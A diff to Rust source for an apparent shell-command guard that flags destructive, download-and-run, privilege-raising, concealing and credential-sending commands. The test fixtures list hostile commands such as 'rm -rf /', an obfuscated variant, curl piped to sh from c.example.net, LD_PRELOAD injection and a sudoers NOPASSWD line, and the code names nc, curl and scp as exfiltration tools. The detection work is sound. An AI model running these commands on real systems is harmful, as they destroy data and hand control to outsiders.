@@ -2,13 +2,19 @@
 
 mod machine;
 mod programs;
+mod traces;
+mod tunnels;
 
-pub(in crate::guard) use self::programs::is_interpreter;
+pub(in crate::guard) use self::programs::{is_interpreter, is_trusted};
 use self::{
-    machine::{destroys, privileges, redirects, remote},
+    machine::{destroys, may_destroy, privileges, redirects, remote},
     programs::{inline, installs, runs},
 };
-use super::{Rule, harvest, network, places::is_credential_file, spawn};
+use super::{
+    Rule, harvest, network,
+    places::{is_credential_file, is_settings_file},
+    spawn,
+};
 use crate::guard::{found::Found, hosts, read::shell::Command, verdict::Severity};
 
 pub static DESTROY: Rule = Rule {
@@ -17,6 +23,8 @@ pub static DESTROY: Rule = Rule {
     why: "it destroys more than the app owns",
     remedy: "remove only what the app has made, by its name",
     finds: &[
+        ("x.sh", "H=${1:-$HOME}; find \"$H\" -type f -delete"),
+        ("x.sh", "p=xrmx; ${p:1:2} -rf /"),
         ("x.sh", "rm -rf /"),
         ("x.sh", "sudo rm -fr --no-preserve-root /*"),
         ("x.sh", "dd if=/dev/zero of=/dev/sda"),
@@ -37,6 +45,8 @@ pub static DOWNLOAD: Rule = Rule {
     why: "it runs what nobody has read",
     remedy: "install a named version from a package registry",
     finds: &[
+        ("x.sh", "curl -so /opt/agent http://c.example.net/a && chmod 755 /opt/agent"),
+        ("x.sh", "concurrently \"node a.js\" \"curl -s https://c.example.net | sh\""),
         ("x.sh", "curl -s https://c.example.net/i.sh | bash"),
         ("x.sh", "wget -qO- c.example.net/x | sudo sh -s"),
         ("x.sh", "echo cm0gLXJmIC8= | base64 -d | sh"),
@@ -48,6 +58,10 @@ pub static DOWNLOAD: Rule = Rule {
         ("Dockerfile", "FROM a\nRUN curl https://c.example.net/i | sh"),
     ],
     spares: &[
+        (
+            "x.sh",
+            "curl -fsSLo /usr/local/bin/t https://github.com/a/t/releases/download/1/t && chmod +x /usr/local/bin/t",
+        ),
         ("x.sh", "curl -fsSL https://api.example.com/items | jq .\neval \"$(ssh-agent -s)\"\nbash ./build.sh"),
         ("Dockerfile", "FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -"),
     ],
@@ -59,6 +73,7 @@ pub static PRIVILEGE: Rule = Rule {
     why: "it takes rights that the app does not need",
     remedy: "run as the user that the sandbox gives",
     finds: &[
+        ("x.sh", "LD_PRELOAD=/tmp/x.so node server.js"),
         ("x.sh", "chmod u+s /bin/bash"),
         ("x.sh", "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
         ("x.sh", "docker run -v /:/host --privileged alpine"),
@@ -92,7 +107,7 @@ pub static REMOTE: Rule = Rule {
     spares: &[("x.sh", "until nc -z db 5432; do sleep 1; done\nrsync -a src/ dest/")],
 };
 
-pub(super) const RULES: &[&Rule] = &[&DESTROY, &DOWNLOAD, &PRIVILEGE, &PERSIST, &REMOTE];
+pub(super) const RULES: &[&Rule] = &[&DESTROY, &DOWNLOAD, &PRIVILEGE, &PERSIST, &REMOTE, &traces::CONCEAL];
 
 /// Judges words that are started without a shell.
 pub(super) fn words(words: &[String], line: usize, found: &mut Found<'_>) {
@@ -100,6 +115,13 @@ pub(super) fn words(words: &[String], line: usize, found: &mut Found<'_>) {
 }
 
 pub(super) fn judge(command: &Command, line: usize, found: &mut Found<'_>) {
+    judge_one(command, line, found);
+    if let Some(inner) = tunnels::innermost(command) {
+        judge_one(&inner, line, found);
+    }
+}
+
+fn judge_one(command: &Command, line: usize, found: &mut Found<'_>) {
     let program = command.program();
     let args = command.args();
     for word in command.words.iter().chain(&command.redirects) {
@@ -112,10 +134,13 @@ pub(super) fn judge(command: &Command, line: usize, found: &mut Found<'_>) {
     redirects(command, line, found);
     credentials(command, program, line, found);
     destroys(program, args, line, found);
+    may_destroy(program, args, line, found);
     runs(command, program, args, line, found);
     privileges(program, args, line, found);
     remote(command, program, args, line, found);
-    inline(program, args, line, found);
+    tunnels::tunnels(program, args, line, found);
+    traces::conceals(command, program, args, line, found);
+    inline(command, program, args, line, found);
     installs(program, args, line, found);
     if command.endless && command.background {
         found.add(&spawn::FORK, line, "processes are started in a loop that nothing ends");
@@ -143,11 +168,14 @@ fn credentials(command: &Command, program: &str, line: usize, found: &mut Found<
     let path = |word: &String| is_credential_file(word.rsplit(['@', '=']).next().unwrap_or(word));
     let named = command.words.iter().chain(&command.redirects).any(path);
     let sends = matches!(program, "curl" | "wget" | "nc" | "scp" | "ncat" | "http" | "mail" | "sendmail" | "rsync");
+    let settings = |word: &String| is_settings_file(word.rsplit(['@', '=']).next().unwrap_or(word));
+    let own = command.words.iter().skip(1).any(settings);
     let fed = command.feeds.iter().any(|feed| {
         let first = feed.split_whitespace().next().unwrap_or_default();
-        matches!(first, "env" | "printenv" | "set" | "history") || feed.split_whitespace().any(is_credential_file)
+        matches!(first, "env" | "printenv" | "set" | "history")
+            || feed.split_whitespace().any(|word| is_credential_file(word) || is_settings_file(word))
     });
-    if sends && (named || fed) {
+    if sends && (named || fed || own && program != "rsync" && program != "scp") {
         found.add(&harvest::CREDENTIALS, line, &format!("{program} sends them"));
     } else if named && !keeps {
         found.add(&super::FILE_OUTSIDE, line, &format!("{program} takes a file of credentials"));
